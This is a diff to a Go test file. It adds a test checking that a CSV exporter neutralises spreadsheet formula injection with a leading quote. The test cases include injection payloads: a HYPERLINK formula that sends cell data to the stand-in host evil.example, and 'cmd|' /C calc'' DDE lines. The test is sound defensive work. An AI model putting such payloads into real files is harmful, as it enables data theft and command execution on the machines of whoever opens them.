@@ -3,6 +3,8 @@ package export
 import (
 	"bytes"
 	"encoding/csv"
+	"encoding/json"
+	"fmt"
 	"reflect"
 	"strings"
 	"testing"
@@ -90,5 +92,64 @@ func TestCSVSemicolon(t *testing.T) {
 	}
 	if err := WriteCSV(&buf, nil, '\t'); err == nil {
 		t.Error("a tab separator was accepted")
+	}
+}
+
+// TestCSVFormulas checks that no field of the CSV starts a formula
+// (OWASP, CSV Injection): each trigger gets a leading quote, a text that
+// merely contains one does not, and the JSON keeps every text exact. The
+// rows are made here, not loaded: Markdown trims the leading spaces and
+// tabs of a question, but a TOML text may still bring them in a field
+// without Markdown, such as a title. field is the text as the CSV file
+// has it (Go's CSV writer drops a lone carriage return in CRLF mode, so
+// "\r=1+1" would open as a formula without the quote).
+func TestCSVFormulas(t *testing.T) {
+	for _, c := range []struct{ text, field string }{
+		{`=HYPERLINK("https://evil.example/?"&A1;"Klik")`, `"'=HYPERLINK(""https://evil.example/?""&A1;""Klik"")"`},
+		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+		{"+1+1", "'+1+1"},
+		{"-3", "'-3"},
+		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\tTab vooraan", "'\tTab vooraan"},
+		{"\rWagenterugloop vooraan", `"'Wagenterugloop vooraan"`},
+		{"\r=1+1", `"'=1+1"`},
+		{"\x00Nul vooraan", "'\x00Nul vooraan"},
+		{"  =1+1", "'  =1+1"},
+		{"\n@SUM(A1)", "\"'\r\n@SUM(A1)\""},
+		{"\u00a0+1", "'\u00a0+1"},
+		{"＝1+1", "'＝1+1"},
+		{"＋1", "'＋1"},
+		{"－1", "'－1"},
+		{"＠SUM(A1)", "'＠SUM(A1)"},
+		{"Is 1+1=2?", "Is 1+1=2?"},
+		{"Wat doe ik - en wat niet?", "Wat doe ik - en wat niet?"},
+		{"'=al een aanhalingsteken", "'=al een aanhalingsteken"},
+	} {
+		t.Run(fmt.Sprintf("%q", c.text), func(t *testing.T) {
+			rows := []Row{{Factsheet: "fryslan", Edition: "2025", Kind: InTheme, Part: "formules", PartTitle: "=1+1",
+				ID: "vraag", Position: 1, Text: c.text, Sub: []string{c.text}, Path: "/fryslan/2025/formules/#vraag-vraag"}}
+			var buf bytes.Buffer
+			if err := WriteCSV(&buf, rows, ';'); err != nil {
+				t.Fatal(err)
+			}
+			want := "\uFEFF" + strings.Join(Header, ";") + "\r\n" +
+				"fryslan;;2025;;false;theme;formules;'=1+1;vraag;1;" + c.field + ";" + c.field + ";;;;/fryslan/2025/formules/#vraag-vraag\r\n"
+			if buf.String() != want {
+				t.Errorf("got:\n%q\nwant:\n%q", buf.String(), want)
+			}
+
+			var js bytes.Buffer
+			if err := WriteJSON(&js, rows); err != nil {
+				t.Fatal(err)
+			}
+			var doc struct{ Questions []Row }
+			if err := json.Unmarshal(js.Bytes(), &doc); err != nil {
+				t.Fatal(err)
+			}
+			if q := doc.Questions[0]; q.Text != c.text || q.Sub[0] != c.text || q.PartTitle != "=1+1" {
+				t.Errorf("JSON text %q, sub %q, theme title %q: not the texts as written", q.Text, q.Sub, q.PartTitle)
+			}
+		})
 	}
 }
